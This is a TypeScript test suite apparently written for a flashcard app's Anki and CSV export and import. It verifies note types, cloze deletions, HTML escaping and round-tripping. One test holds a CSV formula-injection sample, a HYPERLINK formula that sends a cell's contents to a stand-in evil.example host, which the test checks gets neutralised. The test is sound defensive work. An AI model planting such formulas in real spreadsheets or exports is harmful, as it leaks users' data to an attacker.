import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseImport } from '../../src/card-import/parse.ts';
import { DEFAULT_IMPORT_LIMITS } from '../../src/card-import/types.ts';
import { DIALECTS, createTestApp, signedInUser, type TestContext } from '../helpers.ts';
import { judgeApkg, type JudgedPackage } from './anki-judge.ts';
import { buildAnkiPackage, sampleDeck } from './packages.ts';

/**
 * Export fidelity (issue 38): her sets go to Anki and come back as the same notes and cards. Anki's
 * own library is not installed here (no PyPI), so the exported collection is judged as Anki's
 * importer reads it (anki-judge.ts): note types, notes, fields and cards.
 */
describe.each(DIALECTS)('export fidelity on %s', (dialect) => {
  let ctx: TestContext;
  let headers: Record<string, string>;
  let png: Buffer;
  beforeAll(async () => {
    ctx = await createTestApp(dialect, { REGISTER_RATE_LIMIT_IP: '1000' });
    headers = (await signedInUser(ctx.app)).headers;
    png = await sharp({ create: { width: 40, height: 30, channels: 3, background: { r: 10, g: 120, b: 200 } } }).png().toBuffer();
  });
  afterAll(async () => ctx?.close());

  type Card = { id: string; front: { markdown: string; html: string; pictureUrl: string | null }; back: { markdown: string; html: string; pictureUrl: string | null } };
  const write = (method: 'POST' | 'PUT', url: string, payload: unknown, as = headers) =>
    ctx.app.inject({ method, url, headers: { ...as, 'idempotency-key': randomUUID() }, payload: payload as string });
  const upload = (url: string, body: Buffer | string, type = 'application/octet-stream') =>
    ctx.app.inject({ method: 'POST', url, headers: { ...headers, 'content-type': type, 'idempotency-key': randomUUID() }, payload: body });
  const cardsOf = async (id: string, as = headers) => (await ctx.app.inject({ method: 'GET', url: `/api/own-flashcard-sets/${id}`, headers: as })).json().cards as Card[];
  const sides = (cards: Card[]) => cards.map((c) => [c.front.markdown, c.back.markdown]);
  const exported = async (id: string, format: 'apkg' | 'csv', as = headers) => {
    const res = await ctx.app.inject({ method: 'GET', url: `/api/card-exports/${id}?format=${format}`, headers: as });
    expect(res.statusCode, res.body).toBe(200);
    return res;
  };
  const kinds = (p: JudgedPackage) => p.notes.map((n) => [n.noteType, n.cards]);

  async function importDeck(): Promise<string> {
    const spec = sampleDeck(1);
    spec.media = [{ name: 'cel.png', bytes: png }];
    const res = await upload('/api/card-imports?source=apkg&title=Biologie', await buildAnkiPackage(spec));
    expect(res.statusCode, res.body).toBe(201);
    return res.json().id as string;
  }

  it('gives Anki its reversed and cloze notes back as Basic (and reversed card) and Cloze: 4 notes stay 4 notes', async () => {
    const id = await importDeck();
    const cards = await cardsOf(id);
    expect(cards).toHaveLength(6);

    const judged = await judgeApkg((await exported(id, 'apkg')).rawPayload);
    // before: 6 "Basic (Blok)" notes, one per card
    expect(kinds(judged)).toEqual([
      ['Basic', [0]],
      ['Basic (and reversed card)', [0, 1]],
      ['Cloze', [0, 1]],
      ['Basic', [0]],
    ]);
    expect(judged.noteTypes.map((n) => [n.name, n.kind, n.originalStockKind])).toEqual([
      ['Basic', 'standard', 1],
      ['Basic (and reversed card)', 'standard', 2],
      ['Cloze', 'cloze', 5],
    ]);
    expect(judged.notes[1]!.fields).toEqual({ Front: '<p>Ribosoom</p>\n', Back: '<p>Maakt eiwitten</p>\n' });
    expect(judged.notes[2]!.fields).toEqual({ Text: '<p>De {{c1::kern}} bevat het {{c2::DNA::erfelijk materiaal}}.</p>\n', 'Back Extra': '<p><em>Eukaryoten</em></p>\n' });
    expect(judged.notes[0]!.fields.Back).toBe('<p>Energiecentrale van de cel</p>\n<div><img src="blok-1-achterkant.webp"></div>');
    expect(Object.keys(judged.media)).toEqual(['blok-1-achterkant.webp']);
    expect(judged.notes[0]!.tags).toEqual(['biologie', 'cel', 'Cellen']);
    expect(judged.notes.every((n) => n.deck === 'Biologie')).toBe(true);

    // and back into Blok: the same cards, which export as the same notes again
    const again = await upload('/api/card-imports?source=apkg&title=Terug', (await exported(id, 'apkg')).rawPayload);
    expect(again.statusCode, again.body).toBe(201);
    expect(sides(await cardsOf(again.json().id))).toEqual(sides(cards));
    const second = await judgeApkg((await exported(again.json().id, 'apkg')).rawPayload);
    expect(kinds(second)).toEqual(kinds(judged));
    expect(second.notes.map((n) => n.fields)).toEqual(judged.notes.map((n) => n.fields));
  });

  it('keeps a note together in a classmate’s copy, and lets a card she changed go out as a Basic note of its own', async () => {
    const id = await importDeck();
    const share = await write('POST', `/api/own-flashcard-sets/${id}/share`, {});
    expect(share.statusCode, share.body).toBe(200);
    const classmate = (await signedInUser(ctx.app)).headers;
    const copy = await write('POST', `/api/shared-flashcard-sets/${share.json().token}/copy`, {}, classmate);
    expect(copy.statusCode, copy.body).toBe(201);
    expect(kinds(await judgeApkg((await exported(copy.json().id, 'apkg', classmate)).rawPayload))).toHaveLength(4);

    // she rewrites the second cloze card and the reversed card's back side
    const cards = await cardsOf(id);
    const edited = await write('PUT', `/api/own-flashcards/${cards[4]!.id}`, { front: 'Wat bevat de kern?', back: 'Het **DNA**.' });
    expect(edited.statusCode, edited.body).toBe(200);
    const turned = await write('PUT', `/api/own-flashcards/${cards[2]!.id}`, { front: cards[2]!.front.markdown, back: 'Een ribosoom' });
    expect(turned.statusCode, turned.body).toBe(200);
    // only the tags changed: still the note's card
    const tagged = await write('PUT', `/api/own-flashcards/${cards[3]!.id}`, { front: cards[3]!.front.markdown, back: cards[3]!.back.markdown, tags: ['kern'] });
    expect(tagged.statusCode, tagged.body).toBe(200);

    const judged = await judgeApkg((await exported(id, 'apkg')).rawPayload);
    expect(kinds(judged)).toEqual([
      ['Basic', [0]],
      ['Basic', [0]],
      ['Basic', [0]],
      ['Cloze', [0]],
      ['Basic', [0]],
      ['Basic', [0]],
    ]);
    // the deletion whose card she changed is text of the note now; her card is a note of its own
    expect(judged.notes[3]!.fields.Text).toBe('<p>De {{c1::kern}} bevat het DNA.</p>\n');
    expect(judged.notes[4]!.fields).toEqual({ Front: '<p>Wat bevat de kern?</p>\n', Back: '<p>Het <strong>DNA</strong>.</p>\n' });
    expect(judged.notes[2]!.fields).toEqual({ Front: '<p>Maakt eiwitten</p>\n', Back: '<p>Een ribosoom</p>\n' });
    expect(judged.notes.reduce((n, note) => n + note.cards.length, 0)).toBe(6);
  });

  it('keeps bold, italics, lists, links, line breaks and text between < and > both ways', async () => {
    const set = await write('POST', '/api/own-flashcard-sets', { title: 'Biologie – H1' });
    expect(set.statusCode, set.body).toBe(201);
    const id = set.json().id as string;
    const typed = [
      ['a<b en c>d', 'if x<y and y>z:'],
      ['**vet** en *schuin*', '- een\n- twee\n\nzie [de uitleg](https://blok.example/uitleg)\nregel 2'],
    ];
    for (const [front, back] of typed) expect((await write('POST', `/api/own-flashcard-sets/${id}/cards`, { front, back })).statusCode).toBe(201);

    // the study screen and the share preview show what she typed (before: "a<strong>d</strong>" and "if xz:")
    const cards = await cardsOf(id);
    expect(cards[0]!.front.html).toBe('<p>a&lt;b en c&gt;d</p>\n');
    expect(cards[0]!.back.html).toBe('<p>if x&lt;y and y&gt;z:</p>\n');
    expect(cards[1]!.back.html).toBe(
      '<ul>\n<li>een</li>\n<li>twee</li>\n</ul>\n<p>zie <a href="https://blok.example/uitleg" rel="noopener noreferrer" target="_blank">de uitleg</a><br />regel 2</p>\n',
    );
    const token = (await write('POST', `/api/own-flashcard-sets/${id}/share`, {})).json().token as string;
    const preview = (await ctx.app.inject({ method: 'GET', url: `/api/shared-flashcard-sets/${token}`, headers })).json();
    expect(preview.cards[0].front.html).toBe('<p>a&lt;b en c&gt;d</p>\n');

    // Anki gets HTML; back in Blok the cards show the same
    const judged = await judgeApkg((await exported(id, 'apkg')).rawPayload);
    expect(judged.notes.map((n) => [n.fields.Front, n.fields.Back])).toEqual(cards.map((c) => [c.front.html, c.back.html]));
    const back = await upload('/api/card-imports?source=apkg&title=Terug', (await exported(id, 'apkg')).rawPayload);
    expect(back.statusCode, back.body).toBe(201);
    expect((await cardsOf(back.json().id)).map((c) => [c.front.html, c.back.html])).toEqual(cards.map((c) => [c.front.html, c.back.html]));

    // the CSV keeps her Markdown and comes back as it was
    const csv = await exported(id, 'csv');
    expect(csv.headers['content-disposition']).toBe(`attachment; filename="Biologie - H1.csv"; filename*=UTF-8''Biologie%20%E2%80%93%20H1.csv`);
    const fromCsv = await upload('/api/card-imports?source=text&title=Uit%20CSV', csv.rawPayload, 'text/plain');
    expect(fromCsv.statusCode, fromCsv.body).toBe(201);
    expect(sides(await cardsOf(fromCsv.json().id))).toEqual(typed);
  });

  // packages Anki wrote itself (real-packages/README.md; not committed, run with CARD_IMPORT_REAL_PACKAGES)
  const real = process.env.CARD_IMPORT_REAL_PACKAGES;
  it.skipIf(!real)('gives Anki back the notes of a collection Anki 2.1 wrote: 5 notes stay 5 notes', async () => {
    const bytes = readFileSync(join(real!, 'orbit-testCollection.colpkg'));
    const res = await upload('/api/card-imports?source=colpkg&title=Orbit', bytes);
    expect(res.statusCode, res.body).toBe(201);
    const cards = await cardsOf(res.json().id);
    expect(cards).toHaveLength(7);
    const judged = await judgeApkg((await exported(res.json().id, 'apkg')).rawPayload);
    // Basic ×2, Basic (and reversed card), Basic (type in the answer) as Basic, Cloze with two deletions
    expect(kinds(judged)).toEqual([
      ['Basic', [0]],
      ['Basic', [0]],
      ['Basic (and reversed card)', [0, 1]],
      ['Cloze', [0, 1]],
      ['Basic', [0]],
    ]);
    expect(judged.notes[3]!.fields).toEqual({ Text: '<p>Test {{c1::cloze}} deletion {{c2::prompt}}</p>\n', 'Back Extra': '<p>Extra text</p>\n' });
    expect(Object.keys(judged.media)).toHaveLength(2);
    const again = await upload('/api/card-imports?source=apkg&title=Terug', (await exported(res.json().id, 'apkg')).rawPayload);
    expect(again.statusCode, again.body).toBe(201);
    expect(sides(await cardsOf(again.json().id))).toEqual(sides(cards));
  });

  it("neutralises formulas in the CSV, which Blok reads back as she wrote them, and an Anki <br> stays a line break", async () => {
    const set = await write('POST', '/api/own-flashcard-sets', { title: 'Formules' });
    const id = set.json().id as string;
    const typed = [
      ['=HYPERLINK("https://evil.example/?d="&A3,"Klik")', '+31 6 1234'],
      ['-5 graden', '@SUM(A1:A2)'],
    ];
    for (const [front, back] of typed) expect((await write('POST', `/api/own-flashcard-sets/${id}/cards`, { front, back })).statusCode).toBe(201);
    const csv = (await exported(id, 'csv')).rawPayload;
    const lines = csv.toString('utf8').split('\r\n');
    expect(lines.slice(0, 4)).toEqual(['\uFEFF#separator:Comma', '#html:false', '#columns:Front,Back,Tags', '#tags column:3']);
    expect(lines.slice(4, 6)).toEqual([`"'=HYPERLINK(""https://evil.example/?d=""&A3,""Klik"")",'+31 6 1234,`, "'-5 graden,'@SUM(A1:A2),"]);
    const parsed = await parseImport({ source: 'text', bytes: csv, limits: DEFAULT_IMPORT_LIMITS });
    expect(parsed.cards.map((c) => [c.front, c.back])).toEqual(typed);

    const anki = await upload('/api/card-imports?source=text&title=Uit%20Anki', '#separator:tab\n#html:true\nvoor<br>regel 2\t<b>vet</b>\n', 'text/plain');
    expect(anki.statusCode, anki.body).toBe(201);
    const [card] = await cardsOf(anki.json().id);
    expect(card!.front.html).toBe('<p>voor<br />regel 2</p>\n');
    expect(card!.back.html).toBe('<p><strong>vet</strong></p>\n');
  });
});
